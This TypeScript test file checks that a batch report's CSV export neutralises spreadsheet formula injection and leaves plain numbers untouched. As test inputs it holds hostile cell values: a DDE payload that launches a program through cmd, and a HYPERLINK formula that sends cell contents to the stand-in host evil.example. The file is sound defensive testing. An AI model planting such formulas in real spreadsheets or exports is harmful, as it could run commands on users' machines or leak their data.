// The batch report's CSV: no cell a spreadsheet would run as a formula; numbers stay numbers.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { AgentRunResult } from '../../workflows/agent-run';
import { batchResult, newBatchState, recordFailure, recordSuccess } from '../../workflows/batch-state';
import { batchReportCsv, csvCell, spreadsheetSafe } from '../../workflows/report';
import { batch } from '../batch/specs';

test('a cell starting with =, +, -, @, a tab or a CR gets a leading quote (OWASP)', () => {
  assert.equal(
    spreadsheetSafe('=HYPERLINK("https://evil.example","invoice")'),
    `'=HYPERLINK("https://evil.example","invoice")`,
  );
  assert.equal(spreadsheetSafe('+cmd|"/C calc"!A0'), `'+cmd|"/C calc"!A0`);
  assert.equal(spreadsheetSafe('-2+3+cmd|"/C calc"!A0'), `'-2+3+cmd|"/C calc"!A0`);
  assert.equal(spreadsheetSafe('@SUM(1+1)'), `'@SUM(1+1)`);
  assert.equal(spreadsheetSafe('\t=1+1'), `'\t=1+1`);
  assert.equal(spreadsheetSafe('\r=1+1'), `'\r=1+1`);
  assert.equal(spreadsheetSafe('-'), `'-`);
});

test('plain numbers (negative, signed, decimal, exponent) and ordinary text stay as they are', () => {
  for (const text of [
    '-12.50',
    '+3',
    '-0.05',
    '-.5',
    '1e3',
    '-2E-4',
    '42',
    'Done in 3 steps',
    'a=b',
    '',
    ' =1',
  ]) {
    assert.equal(spreadsheetSafe(text), text);
  }
});

test('a neutralised cell is still quoted the RFC 4180 way', () => {
  assert.equal(csvCell('=1+1,"x"'), `"'=1+1,""x"""`);
  assert.equal(csvCell('\r\n=1'), `"'\r\n=1"`);
  assert.equal(csvCell('-7'), '-7');
});

test('the report: a hostile result, error and input value are text; numbers, ours and the input, are numbers', () => {
  const spec = batch(2, { csvColumns: ['id', 'amount', 'note'] });
  spec.items[0]!.fields.amount = -12.5;
  spec.items[0]!.fields.note = '@SUM(A1:A9)';
  spec.items[1]!.fields.note = 'plain';
  const state = newBatchState(spec);
  const run: AgentRunResult = {
    runId: 'run_1',
    status: 'succeeded',
    steps: 2,
    costUsd: 0.1,
    result: '=HYPERLINK("https://evil.example/?d="&A1,"Details")',
    error: null,
    approvals: [],
    delivery: { eventsHandled: 4, reconnects: 0, streamRetries: 0 },
  };
  recordSuccess(state, { index: 0, attempt: 1, costCents: 0, steps: 0 }, run);
  recordFailure(state, { index: 1, attempt: 1, costCents: 5, steps: 1 }, 'run_2', {
    type: 'agent_error',
    message: 'x',
  });
  const result = batchResult(spec, state);
  result.items[1]!.error = { type: '+agent_error', message: 'x' };
  const rows = batchReportCsv(result, spec).split('\n');
  assert.equal(
    rows[1],
    `inv-001,-12.5,'@SUM(A1:A9),succeeded,run_1,0.10,2,1,"'=HYPERLINK(""https://evil.example/?d=""&A1,""Details"")",`,
  );
  assert.equal(rows[2], `inv-002,20,plain,failed,run_2,0.05,1,1,,'+agent_error: x`);
});
